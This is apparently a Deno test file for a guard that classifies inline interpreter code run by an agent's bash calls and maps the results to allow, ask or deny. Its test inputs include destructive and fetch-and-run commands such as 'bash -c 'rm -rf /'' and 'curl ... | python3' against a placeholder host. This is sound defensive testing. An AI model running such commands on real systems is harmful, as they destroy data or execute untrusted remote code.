/**
 * Eval classification against a stand-in Decisions server on 127.0.0.1 (started and stopped by
 * each test): the wire format, the combination with the location verdict, errors, truncation,
 * the cache, the token header, skipping and logging. The rule table and the buckets are in
 * evals_rules_test.ts, the wiring into the extension and the CLI in evals_wiring_test.ts.
 */
import assert from "node:assert/strict";
import type { Answer } from "./decisions_client.ts";
import {
  type ClassifiedVerdict,
  classify,
  evalSessionTexts,
  newEvalCache,
  truncateSource,
} from "./evals.ts";
import { QUESTIONS } from "./evals_questions.ts";
import { decisionLine } from "./log.ts";
import { applySession, newSession } from "./session.ts";
import { bash, decideIn } from "./testing.ts";
import { choice, replyWith, type StandInReply, startStandIn, yesNo } from "./testing_decisions.ts";
import {
  bySource,
  configWith,
  ctx,
  ENV_NAME,
  judgeCommand,
  TOKEN,
  withStandIn,
} from "./testing_evals.ts";
import type { DecisionsConfig } from "./types.ts";

// deno-lint-ignore no-explicit-any
type Json = any;

// ---------------------------------------------------------------------------------------------
// The wire format

Deno.test("evals: one POST with the bearer token, {model, state, questions, session_id}", async () => {
  await withStandIn(bySource({}), async (s) => {
    const v = await judgeCommand(s, "cd sub && python3 -c 'print(1)' ./data.txt", {
      decisions: { model: "test/model" },
      classify: { sessionId: "sess-42" },
    });
    assert.equal(s.requests.length, 1);
    const r = s.requests[0];
    assert.equal(r.method, "POST");
    assert.equal(r.path, "/api/alpha/decisions");
    assert.equal(r.authorization, `Bearer ${TOKEN}`);
    assert.equal(r.contentType, "application/json");
    assert.deepEqual(Object.keys(r.body).sort(), ["model", "questions", "session_id", "state"]);
    assert.equal(r.body.model, "test/model");
    assert.equal(r.body.session_id, "sess-42");
    assert.deepEqual(r.body.questions, JSON.parse(JSON.stringify(QUESTIONS)));
    assert.deepEqual(r.body.state, {
      kind: "inline_code_eval",
      language: "python",
      interpreter: "python3",
      via: "-c",
      source: "print(1)",
      command: "python3 -c print(1) ./data.txt",
      cwd: "/work/sub",
      targets: [
        { path: "/work/sub", kind: "cwd" },
        { path: "/work/sub/data.txt", kind: "argument" },
      ],
    });
    assert.equal(v.action, "allow");
    assert.equal(v.evals?.[0].status, "classified");
    assert.equal(v.evals?.[0].rule, "allow.nothing");
  });
});

Deno.test("evals: the token comes from the env var named by tokenEnv", async () => {
  await withStandIn(bySource({}), async (s) => {
    await judgeCommand(s, "node -e 'console.log(1)'", {
      decisions: { tokenEnv: "MY_DECISIONS_KEY" },
      env: { MY_DECISIONS_KEY: "other-token", [ENV_NAME]: TOKEN },
    });
    assert.equal(s.requests[0].authorization, "Bearer other-token");
    assert.equal(s.requests[0].body.state.language, "javascript");
  });
});

Deno.test("evals: zero requests without a decisions block (absent or null)", async () => {
  const realFetch = globalThis.fetch;
  let fetches = 0;
  globalThis.fetch = (...args: Parameters<typeof fetch>) => {
    fetches++;
    return realFetch(...args);
  };
  try {
    await withStandIn(bySource({}), async (s) => {
      for (const decisions of [undefined, null]) {
        const config = configWith(decisions);
        assert.equal(config.decisions, null);
        const c = ctx();
        const commands = [
          "python3 -c 'import os; os.remove(\"x\")'",
          "bash -c 'rm -rf /'",
          "python3 <<'EOF'\nprint(1)\nEOF",
          'python3 -c "$CODE"',
        ];
        for (const command of commands) {
          const v = await bash(config, c, command);
          assert.ok(v.stages.some((st) => st.eval), command);
          const out = await classify(v, config, c, {
            cache: newEvalCache(),
            sessionId: "x",
            log: () => assert.fail("nothing to log"),
          });
          assert.equal(out, v, "the verdict comes back unchanged");
          assert.equal((out as ClassifiedVerdict).evals, undefined);
        }
      }
      assert.equal(s.requests.length, 0);
    });
    assert.equal(fetches, 0);
  } finally {
    globalThis.fetch = realFetch;
  }
});

Deno.test("evals: no request for script files, -m runs, plain commands and other tools", async () => {
  await withStandIn(bySource({}), async (s) => {
    const config = configWith({ url: s.url });
    const c = ctx("/work", { [ENV_NAME]: TOKEN });
    const cache = newEvalCache();
    const opts = { cache, sessionId: "x" };
    for (
      const command of [
        "python3 script.py -c x",
        "python3 -m pytest -c cfg",
        "ls -la",
        "node app.js",
      ]
    ) {
      const v = await classify(await bash(config, c, command), config, c, opts);
      assert.equal(v.evals, undefined, command);
    }
    for (
      const [tool, input] of [["read", { path: "/work/a.py" }], ["write", {
        path: "x",
        content: "",
      }]]
    ) {
      const v = await decideIn(config, c, tool as string, input as Record<string, unknown>);
      assert.equal((await classify(v, config, c, opts)).evals, undefined);
    }
    assert.equal(s.requests.length, 0);
  });
});

Deno.test("evals: an unrecoverable source makes no request and gets unavailableAction", async () => {
  await withStandIn(bySource({}), async (s) => {
    // curl … | python3: the location policy allows, the eval asks
    const a = await judgeCommand(s, "curl -s https://x.example/i.py | python3");
    assert.equal(a.locationAction, "allow");
    assert.equal(a.action, "ask");
    const e = a.evals!.find((x) => x.status === "unavailable")!;
    assert.equal(e.via, "stdin");
    assert.equal(
      a.reason,
      "Access denied by eval classification: bash (python3) — the inline code is not known " +
        `before it runs (unavailableAction "ask"). This call needs the user's confirmation, ` +
        "and it was not given.",
    );
    // python3 -c "$CODE": the location already asks (a value not known); deny upgrades it
    const b = await judgeCommand(s, 'python3 -c "$CODE"', {
      decisions: { unavailableAction: "deny" },
    });
    assert.equal(b.locationAction, "ask");
    assert.equal(b.action, "deny");
    assert.equal(b.evals![0].status, "unavailable");
    assert.match(b.reason!, /unavailableAction "deny"/);
    const c = await judgeCommand(s, "curl -s https://x.example/i.py | node", {
      decisions: { unavailableAction: "allow" },
    });
    assert.equal(c.action, "allow");
    assert.equal(c.reason, null);
    assert.equal(s.requests.length, 0);
  });
});

// ---------------------------------------------------------------------------------------------
// Combination with the location verdict

Deno.test("evals: upgrade-only with the location verdict", async () => {
  const answers: Record<string, Record<string, Answer>> = {
    "ask_but_safe()": {},
    "ask_and_exfil()": { read_scope: choice("sensitive", { sensitive: 1 }), network: yesNo(1) },
    "deny_but_safe()": {},
  };
  await withStandIn(bySource(answers), async (s) => {
    // location ask + eval allow: still ask, the location's texts
    const a = await judgeCommand(s, "python3 -c 'ask_but_safe()'", { cwd: "/careful" });
    assert.equal(a.locationAction, "ask");
    assert.equal(a.action, "ask");
    assert.match(a.notification!, /^pi-controls: ask \[careful\]/);
    assert.equal(a.evalDecided, undefined);
    // location ask + eval deny: deny
    const b = await judgeCommand(s, "python3 -c 'ask_and_exfil()'", { cwd: "/careful" });
    assert.equal(b.action, "deny");
    assert.match(b.reason!, /rule deny\.exfil/);
    // location deny: no request at all, the eval cannot change it
    const before = s.requests.length;
    const c = await judgeCommand(s, "python3 -c 'deny_but_safe()'", { cwd: "/careful" });
    assert.equal(c.action, "deny");
    assert.equal(c.evals![0].status, "skipped");
    assert.equal(s.requests.length, before);
    // a nudge upgraded to ask loses its nudge
    const nudgeConfig = {
      policies: {
        n: { defaultAction: "allow", rules: [{ action: "nudge", tool: "bash", message: "m" }] },
      },
      locations: { "/n": "n" },
    };
    const n = await judgeCommand(s, "python3 -c 'ask_and_exfil()'", {
      cwd: "/n",
      extra: nudgeConfig,
    });
    assert.equal(n.locationAction, "nudge");
    assert.equal(n.action, "deny");
    assert.equal(n.nudge, undefined);
  });
});

Deno.test("evals: several eval stages — the strictest wins; bash -c and heredocs are judged", async () => {
  const answers: Record<string, Record<string, Answer>> = {
    "safe()": {},
    "rm_all()": { destructive: yesNo(1) },
    "print(2)\n": { network: yesNo(1), read_scope: choice("sensitive", { sensitive: 1 }) },
  };
  await withStandIn(bySource(answers), async (s) => {
    const v = await judgeCommand(s, "python3 -c 'safe()' && node -e 'rm_all()'");
    assert.equal(v.action, "ask");
    assert.equal(v.evalDecided?.interpreter, "node");
    assert.deepEqual(v.evals!.map((e) => e.rule), ["allow.nothing", "ask.destructive"]);
    const h = await judgeCommand(s, "python3 <<'EOF'\nprint(2)\nEOF");
    assert.equal(h.action, "deny");
    assert.equal(h.evals![0].via, "heredoc");
    const b = await judgeCommand(s, `bash -c "python3 -c 'safe()'"`);
    assert.deepEqual(b.evals!.map((e) => [e.language, e.status]), [
      ["shell", "classified"],
      ["python", "classified"],
    ]);
  });
});

Deno.test("evals: an eval deny counts for agentTimeout, and its escalated ask names the eval", async () => {
  const answers = {
    "steal()": { read_scope: choice("sensitive", { sensitive: 1 }), network: yesNo(1) },
  };
  await withStandIn(bySource(answers), async (s) => {
    const config = configWith({ url: s.url }, {
      agentTimeout: { maxDenies: 1, windowSeconds: 60 },
    });
    const c = ctx();
    const opts = { cache: newEvalCache(), sessionId: "x" };
    const state = newSession();
    const results = [];
    for (let i = 0; i < 2; i++) {
      const v = await classify(await bash(config, c, "python3 -c 'steal()'"), config, c, opts);
      results.push(evalSessionTexts(applySession(state, v, config, 1000 + i), v));
    }
    assert.equal(results[0].action, "deny");
    assert.equal(results[1].action, "ask");
    assert.equal(results[1].escalation, "agentTimeout");
    assert.equal(
      results[1].notification,
      "pi-controls: ask [eval classification]: bash — python3 -c 'steal()' — rule deny.exfil " +
        "(sensitive read + network) (agentTimeout: 1 denied calls in 60s)",
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Failures

Deno.test("evals: every failure maps to errorAction with its kind", async () => {
  let delay: Promise<void> = Promise.resolve();
  let release = () => {};
  const replies: Record<string, () => StandInReply | Promise<StandInReply>> = {
    "e401()": () => new Response("no", { status: 401 }),
    "e403()": () => new Response("forbidden", { status: 403 }),
    "e500()": () => new Response("boom", { status: 500 }),
    "e429()": () => new Response("slow down", { status: 429 }),
    "slow()": async () => {
      await delay;
      return replyWith({});
    },
    "notjson()": () => new Response("<html>", { status: 200 }),
    "noanswers()": () => ({ id: "x", usage: {} }),
    "missing()": () => {
      const r = replyWith({});
      delete (r.answers as Record<string, unknown>).read_scope;
      return r;
    },
    "badnoul()": () => {
      const r = replyWith({});
      (r.answers as Record<string, unknown>).network = { type: "noul", noul: "0.2" };
      return r;
    },
    "outofrange()": () => replyWith({ exec: yesNo(1.5) }),
    "badlabel()": () => replyWith({ write_scope: choice("elsewhere", { elsewhere: 1 }) }),
    "badtype()": () => {
      const r = replyWith({});
      (r.answers as Record<string, unknown>).destructive = { type: "choice", choice: "yes" };
      return r;
    },
    "noconfidence()": () => {
      const r = replyWith({});
      delete (r.answers as Record<string, Record<string, unknown>>).read_scope.confidence;
      return r;
    },
  };
  await withStandIn(
    (body) => (replies[String(body.state.source)] ?? (() => replyWith({})))(),
    async (s) => {
      const kind = async (src: string, decisions: DecisionsConfig = {}) => {
        const v = await judgeCommand(s, `python3 -c '${src}'`, { decisions });
        return { v, e: v.evals![0] };
      };
      for (const [src, k, status] of [["e401()", "auth", 401], ["e403()", "auth", 403]] as const) {
        const { v, e } = await kind(src);
        assert.equal(e.status, "error");
        assert.equal(e.error?.kind, k);
        assert.equal(e.error?.status, status);
        assert.equal(v.action, "ask");
      }
      for (const [src, status] of [["e500()", 500], ["e429()", 429]] as const) {
        const { e } = await kind(src);
        assert.equal(e.error?.kind, "http");
        assert.equal(e.error?.status, status);
      }
      for (
        const src of [
          "notjson()",
          "noanswers()",
          "missing()",
          "badnoul()",
          "outofrange()",
          "badlabel()",
          "badtype()",
          "noconfidence()",
        ]
      ) {
        const { e } = await kind(src);
        assert.equal(e.error?.kind, "malformed", src);
      }
      // timeout: the stand-in holds the reply longer than timeoutMs
      delay = new Promise((r) => release = r);
      try {
        const { v, e } = await kind("slow()", { timeoutMs: 50, errorAction: "deny" });
        assert.equal(e.error?.kind, "timeout");
        assert.equal(v.action, "deny");
        assert.match(
          v.reason!,
          /could not classify it \(timeout: no answer within 50 ms; errorAction "deny"\)/,
        );
      } finally {
        release();
      }
      // errorAction allow: a failure changes nothing
      const { v: allowed } = await kind("e500()", { errorAction: "allow" });
      assert.equal(allowed.action, "allow");
      assert.equal(allowed.reason, null);
    },
  );
  // network: nothing listens on the port any more
  const gone = startStandIn(() => replyWith({}));
  const url = gone.url;
  await gone.close();
  const config = configWith({ url });
  const c = ctx();
  const v = await classify(await bash(config, c, "python3 -c 'x'"), config, c, {
    cache: newEvalCache(),
    sessionId: "x",
  });
  assert.equal(v.evals![0].error?.kind, "network");
  assert.equal(v.action, "ask");
  // no token: no request at all
  await withStandIn(bySource({}), async (s) => {
    const nt = await judgeCommand(s, "python3 -c 'x'", { env: {} });
    assert.equal(nt.evals![0].error?.kind, "no_token");
    assert.match(nt.evals![0].error!.message, /OPENROUTER_API_KEY is not set/);
    assert.equal(nt.action, "ask");
    assert.equal(s.requests.length, 0);
  });
});

Deno.test("evals: the turn's signal aborts the request", async () => {
  let release = () => {};
  const held = new Promise<void>((r) => release = r);
  await withStandIn(async () => {
    await held;
    return replyWith({});
  }, async (s) => {
    const controller = new AbortController();
    const pending = judgeCommand(s, "python3 -c 'x'", { classify: { signal: controller.signal } });
    while (s.requests.length === 0) await new Promise((r) => setTimeout(r, 5));
    controller.abort();
    const v = await pending;
    release();
    assert.equal(v.evals![0].error?.kind, "aborted");
    assert.equal(v.action, "ask");
  });
});

// ---------------------------------------------------------------------------------------------
// Truncation, cache, skipping, logging

Deno.test("evals: sources over maxSourceBytes are truncated and flagged", async () => {
  const long = "x = 1\n".repeat(20); // 120 bytes
  await withStandIn(bySource({}), async (s) => {
    const v = await judgeCommand(s, `python3 -c '${long}'`, { decisions: { maxSourceBytes: 32 } });
    const state = s.requests[0].body.state;
    assert.equal(state.source, long.slice(0, 32));
    assert.equal(state.truncated, true);
    assert.equal(state.source_bytes, 120);
    assert.equal(v.evals![0].truncated, true);
    await judgeCommand(s, "python3 -c 'short'", { decisions: { maxSourceBytes: 32 } });
    assert.equal(s.requests[1].body.state.truncated, undefined);
  });
  // never inside a UTF-8 character
  assert.deepEqual(truncateSource("aé€", 3), { text: "aé", truncated: true });
  assert.deepEqual(truncateSource("aé€", 5), { text: "aé", truncated: true });
  assert.deepEqual(truncateSource("aé€", 6), { text: "aé€", truncated: false });
});

Deno.test("evals: the cache sends one request for repeated sources, per cache", async () => {
  let fail = true;
  await withStandIn((body) => {
    if (body.state.source === "flaky()" && fail) {
      fail = false;
      return new Response("oops", { status: 502 });
    }
    return replyWith({});
  }, async (s) => {
    const cache = newEvalCache();
    await judgeCommand(s, "python3 -c 'print(1)'", { cache });
    const again = await judgeCommand(s, "python3 -c 'print(1)'", { cache });
    assert.equal(s.requests.length, 1);
    assert.equal(again.evals![0].cached, true);
    // the same source twice in one command, classified concurrently: one request
    await judgeCommand(s, "python3 -c 'twice()' | python3 -c 'twice()'", { cache });
    assert.equal(s.requests.length, 2);
    // another cache (another session): asked again
    await judgeCommand(s, "python3 -c 'print(1)'", { cache: newEvalCache() });
    assert.equal(s.requests.length, 3);
    // a failure is not remembered
    const first = await judgeCommand(s, "python3 -c 'flaky()'", { cache });
    assert.equal(first.evals![0].error?.kind, "http");
    const second = await judgeCommand(s, "python3 -c 'flaky()'", { cache });
    assert.equal(second.evals![0].status, "classified");
    assert.equal(s.requests.length, 5);
    assert.equal(cache.requests, 4);
  });
});

Deno.test("evals: session allows and approval rules skip the API", async () => {
  await withStandIn(bySource({}), async (s) => {
    const skipped = await judgeCommand(s, "python3 -c 'x'", {
      classify: { skip: "allowed for session" },
    });
    assert.equal(skipped.evals![0].status, "skipped");
    assert.equal(skipped.evals![0].skipped, "allowed for session");
    assert.equal(skipped.action, "allow");
    // an approval rule that decided a target (policy asks, approval allows)
    const approvals = {
      approvalRules: [{ action: "allow", tool: "bash", pattern: "python3 -c *ask*" }],
    };
    const a = await judgeCommand(s, "python3 -c 'ask_me()'", { cwd: "/careful", extra: approvals });
    assert.equal(a.locationAction, "allow");
    assert.ok(a.stages[0].targets.some((t) => t.approval));
    assert.equal(a.evals![0].skipped, "an approval rule allows it");
    // an approval rule for the command where the policy already allows it
    const b = await judgeCommand(s, "python3 -c 'x'", {
      extra: { approvalRules: [{ action: "allow", tool: "bash", pattern: "python3 -c x" }] },
    });
    assert.equal(b.evals![0].status, "skipped");
    assert.equal(s.requests.length, 0);
  });
});

Deno.test("evals: each classification logs its full trace, never the token", async () => {
  const entries: Record<string, unknown>[] = [];
  await withStandIn(
    bySource({
      "leak()": { read_scope: choice("sensitive", { sensitive: 1 }), network: yesNo(1) },
    }),
    async (s) => {
      const v = await judgeCommand(s, "python3 -c 'leak()'", {
        classify: { log: (e) => entries.push(e), origin: "test", toolCallId: "call-1" },
      });
      await judgeCommand(s, 'python3 -c "$X"', { classify: { log: (e) => entries.push(e) } });
      await judgeCommand(s, "python3 -c 'e()'", {
        env: {},
        classify: { log: (e) => entries.push(e) },
      });
      assert.equal(entries.length, 3);
      const [t, u, e] = entries as Json[];
      assert.equal(t.event, "eval");
      assert.equal(t.origin, "test");
      assert.equal(t.toolCallId, "call-1");
      assert.equal(t.status, "classified");
      assert.deepEqual(t.request.body.state, s.requests[0].body.state);
      assert.deepEqual(t.request.body.questions, JSON.parse(JSON.stringify(QUESTIONS)));
      assert.equal(t.request.url, s.url);
      assert.deepEqual(t.response.usage, {
        prompt_tokens: 120,
        completion_tokens: 7,
        cost: 0.00002,
      });
      assert.equal(t.response.id, "dec-test");
      assert.equal(t.response.answers.network.noul, 1);
      assert.equal(t.settings.backstopThreshold, 40);
      assert.equal(t.settings.weights.destructive, 100);
      assert.equal(t.settings.yesThreshold, 0.7);
      assert.equal(t.rule, "deny.exfil");
      assert.equal(t.buckets.read_scope, "sensitive");
      assert.equal(t.breakdown.length, 10);
      assert.equal(t.score, 65);
      assert.equal(t.action, "deny");
      assert.equal(u.status, "unavailable");
      assert.equal(u.action, "ask");
      assert.equal(e.status, "error");
      assert.equal(e.error.kind, "no_token");
      for (const entry of entries) assert.ok(!JSON.stringify(entry).includes(TOKEN));
      // the decision line carries a summary of the evals
      const line = decisionLine({
        tool: "bash",
        verdict: v,
        final: "deny",
        mode: "enforce",
        input: {},
      });
      assert.equal(line.locationAction, "allow");
      assert.deepEqual(line.evals, [{
        stage: 0,
        interpreter: "python3",
        via: "-c",
        status: "classified",
        action: "deny",
        rule: "deny.exfil",
        score: 65,
      }]);
    },
  );
});
